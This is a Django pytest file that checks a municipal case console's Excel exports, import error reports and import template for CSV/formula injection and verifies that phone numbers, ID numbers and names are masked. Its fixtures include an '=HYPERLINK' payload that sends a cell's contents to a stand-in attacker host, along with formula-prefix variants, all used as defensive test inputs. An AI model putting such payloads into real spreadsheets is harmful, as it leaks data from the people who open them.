"""Every workbook the console hands out writes text as text: the case export, an import's problem report and the
import template (a resident's '=HYPERLINK(…)' must never become a live formula in a staff member's Excel)."""

from __future__ import annotations

import io

import pytest
from django.core.files.base import ContentFile
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook

from gongzhi.cases import services
from gongzhi.cases.tests.factories import world
from gongzhi.console import imports
from gongzhi.console.models import ImportJob
from gongzhi.core.testing.excel import assert_no_formulas

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"查看详情")'
PREFIXES = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)"]


@pytest.fixture
def w():
    return world()


def _download(response) -> bytes:
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_case_export_writes_residents_formulas_as_text(w, client):
    texts = [HYPERLINK, *PREFIXES]
    cases = []
    for text in texts:
        case = w.to_accepted(title=text, description=f"{text}\n详情", address=text)
        cases.append(services.resolve(case=case, actor=w.steward, result=text))
    client.force_login(w.centre)
    book = assert_no_formulas(_download(client.get(reverse("console:cases_export"))))
    cells = [c.value for row in book.worksheets[0].iter_rows(min_row=2) for c in row]
    for case in cases:
        case.refresh_from_db()  # the services strip surrounding blanks: compare with what was stored
        assert case.title in cells and case.title.lstrip(" \t").startswith(tuple("=+-@＝＋－＠")), case.title
        assert case.result in cells, case.result


def test_import_problem_report_writes_file_names_and_values_as_text(w, client):
    book = Workbook()
    book.active.append(["工单编号", "标题", "紧急程度"])
    book.active.append(["12345-1", "路灯不亮", "-很急"])
    data = io.BytesIO()
    book.save(data)
    job = ImportJob.objects.create(
        kind=ImportJob.Kind.CASES,
        jurisdiction=w.jurisdiction,
        original_name="=HYPERLINK(1).xlsx",
        created_by=w.dispatcher,
        created_at=timezone.now(),
    )
    job.file.save("x.xlsx", ContentFile(data.getvalue()))
    imports.run(job.pk)
    job.refresh_from_db()
    assert job.status == ImportJob.Status.FAILED
    client.force_login(w.dispatcher)
    report = assert_no_formulas(_download(client.get(reverse("console:import_errors", args=[job.pk]))))
    values = [c.value for row in report.worksheets[0].iter_rows(min_row=2) for c in row]
    assert "=HYPERLINK(1).xlsx" in values
    assert "紧急程度“-很急”无法识别（可填：一般、紧急、特急）" in values, values


def test_import_template_has_no_formula(w, client):
    client.force_login(w.dispatcher)
    assert_no_formulas(_download(client.get(reverse("console:import_template"))))


def test_case_export_carries_the_request_and_the_result_with_phone_numbers_masked(w, client):
    case = w.to_accepted(
        title="楼道堆物",
        description="3单元楼道堆满杂物，联系电话 13812345678，身份证 110101199003071234",
        address="3单元502室 电话138-1234-5678",
    )
    services.resolve(case=case, actor=w.steward, result="已清理，联系人：李四 13712345678")
    client.force_login(w.centre)
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "zh-hans"
    book = assert_no_formulas(_download(client.get(reverse("console:cases_export"))))
    assert book.sheetnames == ["诉求工单"]
    sheet = book["诉求工单"]
    head = [c.value for c in sheet[1]]
    assert head[:5] == ["查询码", "标题", "诉求内容", "位置", "网格"]
    assert "办理结果" in head and "办结时间" in head
    row = dict(zip(head, [c.value for c in sheet[2]], strict=True))
    assert row["诉求内容"] == "3单元楼道堆满杂物，联系电话 138****5678，身份证 **************1234"
    # The flat is masked like every other personal detail in free text (core.privacy.mask_text), the building kept.
    assert row["位置"].endswith("*单元***室 电话138****5678") and w.building.name in row["位置"]
    assert row["办理结果"] == "已清理，联系人：李* 137****5678"
    assert row["网格"] == w.micro.name
    assert sheet["N2"].is_date and sheet["P2"].is_date  # submitted and resolved are dates, not text
    # Nothing personal leaves in the clear: no phone, no ID number, no full name.
    cells = " ".join(str(c.value) for r in sheet.iter_rows() for c in r)
    for secret in ("13812345678", "138-1234-5678", "110101199003071234", "13712345678", "李四"):
        assert secret not in cells


def test_case_export_reads_each_row_without_a_query_per_row(w, client, django_assert_max_num_queries):
    for _i in range(3):
        services.resolve(case=w.to_accepted(), actor=w.steward, result="好了")
    client.force_login(w.centre)
    with django_assert_max_num_queries(12) as few:
        _download(client.get(reverse("console:cases_export")))
    for _i in range(20):
        services.resolve(case=w.to_accepted(), actor=w.steward, result="好了")
    with django_assert_max_num_queries(len(few.captured_queries)):
        _download(client.get(reverse("console:cases_export")))
